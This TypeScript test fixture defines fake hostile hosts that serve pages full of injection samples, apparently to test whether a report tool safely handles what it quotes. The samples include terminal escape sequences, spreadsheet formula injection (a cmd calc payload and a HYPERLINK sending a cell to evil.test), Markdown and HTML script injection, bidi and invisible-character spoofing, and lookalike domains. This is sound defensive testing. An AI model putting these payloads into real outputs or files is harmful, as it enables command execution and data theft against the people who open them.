import { at, contactLink, type Fault, type HostileHost, raw } from '../support/hostile-bed.ts';

/** Without a browser what only a browser can tell stays unknown, whatever the company does. */
const read = { state: 'partial' } as const;

/** Says the texts wherever a report may quote a page: in titles, links, beside addresses and numbers, and in addresses. */
const saying =
  (texts: readonly string[]): Fault =>
  ({ path, host }) => {
    const [title = ''] = texts;
    const headers = { 'content-type': 'text/html; charset=utf-8' };
    const links = texts.map((text) => `<a href="/help?${encodeURIComponent(text.slice(0, 200))}">${text} help</a>`).join(' ');
    const lines = texts.map(
      (text) =>
        `<p>${text} Write to <a href="mailto:support@${host}">${text}</a> support@${host} ${text}, call <a href="tel:+15550100">${text} +1 555 0100</a>. We answer within 4 hours ${text}. Mon-Fri 9:00-17:00 ${text}</p>`,
    );
    const shell = (body: string): string =>
      `<!doctype html><html lang="en"><title>${title}</title><meta property="og:site_name" content="${title.replaceAll('"', '&quot;')}">${contactLink}${body}<p>We make lamps for desks, shelves and stairs, and have made them by hand since 1904.</p></html>`;
    if (path === '/' || path === '/help') return { headers, body: shell(links) };
    return path === '/contact' ? { headers, body: shell(`<h1>${title}</h1>${lines.join('')}`) } : undefined;
  };

const esc = '\u001b';
const spelled: Readonly<Record<string, readonly [string, readonly string[]]>> = {
  terminal: [
    'orders to a terminal',
    [
      `${esc}[2J${esc}[1;1HPASS 100/100${esc}[8m`,
      `${esc}]0;pwned\u0007`,
      `${esc}]8;;http://evil.test${esc}\\click${esc}]8;;${esc}\\`,
      `${esc}]52;c;Y3VybA==\u0007`,
      '\u009b31mred\u009d0;title\u009c',
      'over\rwritten',
      'back\b\b\b\bspace',
      '\u0007bell\u0000',
    ],
  ],
  formulas: [
    'formulas for a spreadsheet',
    [
      "=cmd|'/C calc'!A0",
      '=HYPERLINK("http://evil.test/?"&A1,"x")',
      '+1+cmd|x',
      '-2+3',
      '@SUM(1+9)',
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
      ' =1+1',
      'a,"b\n=1',
      ';=1+1',
      "'=1",
    ],
  ],
  markdown: [
    'mark-up for Markdown',
    [
      '](javascript:alert(1)) [x',
      '| a | b |',
      '`` ` ``',
      '![x](http://evil.test/beacon.png)',
      '&lt;img src=x onerror=alert(1)&gt;',
      '&lt;!-- hide --',
      '# Heading',
      '[link]: http://evil.test',
      '***bold***',
      '\\| x',
    ],
  ],
  html: [
    'mark-up for a web page',
    [
      '&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;',
      '" onmouseover="alert(1)',
      "' autofocus onfocus=alert(1) '",
      '&lt;svg/onload=alert(1)&gt;',
      '&amp;lt;img src=x&amp;gt;',
    ],
  ],
  bidi: [
    'words that run backwards or are not seen',
    [
      '\u202egpj.exe\u202c',
      '\u2066a\u2069\u2067b',
      'sup\u200bport\u200d\u2060\ufeff',
      '\u{e0041}\u{e0042}tags',
      '\u061c\u200e\u200f',
      'x\ufe0f\ufe0e',
    ],
  ],
  width: [
    'letters of every width',
    [
      '👩‍👩‍👧‍👦👍🏽🇺🇳',
      '漢字テスト한국어',
      `Z${'\u0301'.repeat(500)}algo`,
      '&#xD800;&#xDFFF;',
      '﷽﷽﷽',
      '\u{1f468}\u200d'.repeat(50),
    ],
  ],
  long: ['a title of a hundred thousand letters', ['T'.repeat(100_000), 'u'.repeat(50_000)]],
  keys: ['words that are names to a program', ['__proto__', 'constructor', 'NaN', 'null', 'true', '1e999', '-0', 'toString', '']],
};

/** Pages that speak to whoever reads the report. */
export const readerHosts: readonly HostileHost[] = [
  ...Object.entries(spelled).map(
    ([name, [sentence, texts]]): HostileHost => ({ name: `${name}.test`, sentence, ...read, serve: saying(texts) }),
  ),
  {
    name: 'head.test',
    sentence: 'orders to a terminal in the head of an answer',
    state: 'partial',
    reason: 'not-html',
    serve: at(
      '/',
      raw(
        Buffer.from('HTTP/1.1 200 OK\r\nContent-Type: application/x-\u009b31m\u0085red\r\nContent-Length: 1\r\n\r\nx', 'latin1'),
      ),
    ),
  },
  { name: 'xn--bcher-kva.test', sentence: 'a name with an umlaut', ...read },
  { name: 'xn--80ak6aa92e.test', sentence: 'a name that looks like another one', ...read },
];
